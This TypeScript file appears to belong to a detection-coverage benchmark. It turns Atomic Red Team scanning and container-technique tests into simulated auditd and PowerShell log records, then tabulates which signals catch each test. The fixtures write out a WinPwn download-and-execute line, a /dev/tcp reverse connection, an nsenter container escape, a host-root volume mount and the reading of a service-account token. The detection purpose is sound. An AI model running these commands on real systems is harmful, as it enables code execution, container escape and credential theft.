/**
 * Atomic Red Team tests of T1046 and of the container techniques, as hosts log them: caught by which signal, or why not.
 * The tests are those of https://github.com/redcanaryco/atomic-red-team in summer 2026. Commands are shortened.
 */
import type { Table } from '../../bench/table.ts';
import { HostLogReader } from '../../lib/signals/host/index.ts';
import { matchImage } from '../../lib/signals/tools/index.ts';
import { TITLES } from './coverage.ts';

/** What one test leaves in a log. */
export interface AtomicTest {
  readonly technique: string;
  readonly name: string;
  readonly guid?: string;
  /** The commands that auditd sees, each with its own name first. */
  readonly commands?: readonly (readonly string[])[];
  /** The text of event 4104. */
  readonly script?: string;
  /** The image of a container that engines and the Kubernetes audit log name. */
  readonly image?: string;
  /** Why hosts cannot show it, or what else does. */
  readonly remark: string;
}

const WINPWN =
  "iex(new-object net.webclient).downloadstring('https://raw.githubusercontent.com/S3cur3Th1sSh1t/WinPwn/121dcee/WinPwn.ps1')";
const OTHER_CONTAINER = 'no scan: a container technique without network probes';

const SUBNET_SCAN = `$ipAddr = ""
if ($ipAddr -like "*,*") {
  $ip_list = $ipAddr -split ","
} elseif ($ipAddr -notlike "*,*") {
  $ports = 445, 3389
  $subnetIPs = 1..254 | ForEach-Object { "$subnetSubstring$_" }
  foreach ($ip in $subnetIPs) {
    foreach ($port in $ports) {
      try {
        $tcp = New-Object Net.Sockets.TcpClient
        $tcp.ConnectAsync($ip, $port).Wait(200) | Out-Null
      } catch {}
    }
  }
}`;

const winpwn = (name: string, guid: string): AtomicTest => ({
  technique: 'T1046',
  name: `WinPwn - ${name}`,
  guid,
  script: `$S3cur3Th1sSh1t_repo='https://raw.githubusercontent.com/S3cur3Th1sSh1t'\n${WINPWN}\n${name} -noninteractive -consoleoutput`,
  remark: 'needs script block logging (event 4104)',
});

export const ATOMIC_TESTS: readonly AtomicTest[] = [
  {
    technique: 'T1046',
    name: 'Port Scan',
    guid: '68e907da-2539-48f6-9fc9-257a78c05540',
    commands: [
      [
        'bash',
        '-c',
        'for port in {1..65535}; do (2>/dev/null echo >/dev/tcp/192.168.1.1/$port) && echo port $port is open ; done',
      ],
    ],
    remark: 'typed into a running shell it has no exec record: then flow logs and audited connects show it',
  },
  {
    technique: 'T1046',
    name: 'Port Scan Nmap',
    guid: '515942b0-a09f-4163-a7bb-22fefb6f185f',
    commands: [
      ['sudo', 'nmap', '-sS', '192.168.1.0/24', '-p', '80'],
      ['telnet', '192.168.1.1', '80'],
      ['nc', '-nv', '192.168.1.1', '80'],
    ],
    remark: 'telnet and nc alone contact one port and are no scan',
  },
  {
    technique: 'T1046',
    name: 'Port Scan NMap for Windows',
    guid: 'd696a3cb-d7a8-4976-8eb5-5af4abf2e3df',
    commands: [['nmap', '127.0.0.1']],
    remark: 'loopback: flow logs never show it',
  },
  {
    technique: 'T1046',
    name: 'Port Scan using python',
    guid: '6ca45b04-9f15-4424-b9d3-84a217285a5c',
    commands: [['python', 'C:\\AtomicRedTeam\\atomics\\T1046\\src\\T1046.py', '-i', '127.0.0.1']],
    remark: 'known by the name of its file only',
  },
  winpwn('spoolvulnscan', '54574908-f1de-4356-9021-8053dd57439a'),
  winpwn('MS17-10', '97585b04-5be2-40e9-8c31-82157b8af2d6'),
  winpwn('bluekeep', '1cca5640-32a9-46e6-b8e0-fabbe2384a73'),
  winpwn('fruit', 'bb037826-cbe8-4a41-93ea-b94059d6bb98'),
  {
    technique: 'T1046',
    name: 'Network Service Discovery for Containers',
    guid: '06eaafdb-8982-426e-8a31-d572da633caa',
    commands: [
      ['docker', 'run', '--name', 't1046_container', '--rm', '-d', '-t', 't1046'],
      ['/bin/sh', '/scan.sh'],
      ['nmap', '-sV', '-O', '172.17.0.2'],
    ],
    image: 't1046',
    remark: 'the exec names no tool: the image, and nmap as its child',
  },
  {
    technique: 'T1046',
    name: 'Port-Scanning /24 Subnet with PowerShell',
    guid: '05df2a79-dba6-4088-a804-9ca0802ca8e4',
    script: SUBNET_SCAN,
    remark: 'needs script block logging (event 4104)',
  },
  {
    technique: 'T1046',
    name: 'Remote Desktop Services Discovery via PowerShell',
    guid: '9e55750e-4cbf-4013-9627-e9a045b541bf',
    script: 'Get-Service -Name "Remote Desktop Services", "Remote Desktop Configuration"',
    remark: 'no scan: asks the host about its own services',
  },
  {
    technique: 'T1046',
    name: 'Port Scan using nmap (Port range)',
    guid: '0d5a2b03-3a26-45e4-96ae-89485b4d1f97',
    commands: [['nmap', '-Pn', '-sV', '-p', '0-65535', '192.168.1.1']],
    remark: '',
  },
  {
    technique: 'T1046',
    name: 'Windows - Port Scan using RustScan (Port list)',
    commands: [['rustscan.exe', '-a', '192.168.1.1', '-p', '22,80,443,445,3389']],
    remark: '',
  },
  {
    technique: 'T1609',
    name: 'ExecIntoContainer',
    guid: 'd03bfcd3-ed87-49c8-8880-44bb772dea4b',
    commands: [['kubectl', 'exec', '-n', 'default', 'busybox', '--', 'uname']],
    remark: 'no scan: the Kubernetes audit log shows the exec, and a scan after it makes a finding',
  },
  {
    technique: 'T1609',
    name: 'Docker Exec Into Container',
    commands: [['docker', 'exec', '-i', 't1609_container', 'bash', '-c', 'cat /tmp/output.txt']],
    remark: 'no scan: Docker events show the exec, and a scan after it makes a finding',
  },
  {
    technique: 'T1610, T1611',
    name: 'Deploy container using nsenter container escape',
    guid: '0b2f9520-a17a-4671-9dba-3bd034099fff',
    commands: [['nsenter', '--mount=/proc/1/ns/mnt', '--', '/bin/bash']],
    remark: OTHER_CONTAINER,
  },
  {
    technique: 'T1611',
    name: 'Mount host filesystem to escape privileged Docker container',
    guid: '6c499943-b098-4bc6-8d38-0956fc182984',
    commands: [
      ['netcat', '-l', '-p', '4444'],
      ['/bin/bash', '-c', 'echo "hello from host! $(hostname) $(id)" >& /dev/tcp/172.17.0.2/4444 0>&1'],
    ],
    remark: 'no scan: one connection back',
  },
  {
    technique: 'T1611',
    name: 'Privilege Escalation via Docker Volume Mapping',
    commands: [
      [
        'sudo',
        'docker',
        'run',
        '-v',
        '/:/mnt',
        '--rm',
        '--name',
        't1611_privesc',
        '-it',
        'alpine',
        'chroot',
        '/mnt',
        'id',
      ],
    ],
    remark: OTHER_CONTAINER,
  },
  {
    technique: 'T1612',
    name: 'Build Image On Host',
    commands: [
      ['docker', 'build', '-t', 't1612', '/root/AtomicRedTeam/atomics/T1612/src/'],
      ['docker', 'exec', 't1612_container', './test.sh'],
    ],
    remark: OTHER_CONTAINER,
  },
  {
    technique: 'T1613',
    name: 'Container and Resource Discovery',
    commands: [
      ['docker', 'ps'],
      ['docker', 'stats', '--no-stream'],
    ],
    remark: OTHER_CONTAINER,
  },
  {
    technique: 'T1552.007',
    name: 'ListSecrets',
    guid: '43c3a49d-d15c-45e6-b303-f6e177e44a9a',
    commands: [['kubectl', 'get', 'secrets', '-n', 'default']],
    remark: OTHER_CONTAINER,
  },
  {
    technique: 'T1552.007',
    name: 'Cat the contents of a Kubernetes service account token file',
    commands: [['kubectl', 'exec', 'atomic-pod', '--', 'cat', '/run/secrets/kubernetes.io/serviceaccount/token']],
    remark: 'no scan: the Kubernetes audit log shows the exec, and a scan after it makes a finding',
  },
  {
    technique: 'T1053.007',
    name: 'ListCronjobs',
    guid: 'ddfb0bc1-3c3f-47e9-a298-550ecfefacbd',
    commands: [['kubectl', 'get', 'cronjobs', '-n', 'default']],
    remark: OTHER_CONTAINER,
  },
  {
    technique: 'T1053.007',
    name: 'CreateCronjob',
    guid: 'f2fa019e-fb2a-4d28-9dc6-fd1a9b7f68c3',
    commands: [['kubectl', 'create', '-f', 'src/cronjob.yaml', '-n', 'default']],
    remark: OTHER_CONTAINER,
  },
];

/** A record as laurel writes it. */
const recordOf = (argv: readonly string[], serial: number): string =>
  JSON.stringify({
    ID: `1794650400.000:${serial}`,
    NODE: 'host-1',
    SYSCALL: { SYSCALL: 'execve', exe: argv[0], ppid: 1, pid: serial },
    EXECVE: { ARGV: argv },
  });

const blockOf = (script: string): string =>
  JSON.stringify({
    EventID: 4104,
    Channel: 'Microsoft-Windows-PowerShell/Operational',
    Hostname: 'WIN1',
    '@timestamp': '2026-11-14T10:00:00Z',
    ScriptBlockId: 'b1',
    ScriptBlockText: script,
  });

/** The signals of a test, as `tool (severity)`, and what its image is known for. */
export function signalsOf({ commands = [], script, image }: AtomicTest): string[] {
  const reader = new HostLogReader('atomic.log');
  const lines = [...commands.map(recordOf), ...(script === undefined ? [] : [blockOf(script)])];
  const signals = lines.flatMap((line) => [...reader.read(line)]);
  const known = image === undefined ? undefined : matchImage(image);
  return [
    ...new Set([
      ...signals.map(({ tool, severity }) => `${tool} (${severity})`),
      ...(known ? [`image of ${known.tool}`] : []),
    ]),
  ];
}

export const atomicTable = (): Table => ({
  title: TITLES.atomic,
  header: ['test', 'technique', 'signals', 'remark'],
  rows: ATOMIC_TESTS.map((test) => [test.name, test.technique, signalsOf(test).join(', ') || '·', test.remark || '·']),
});
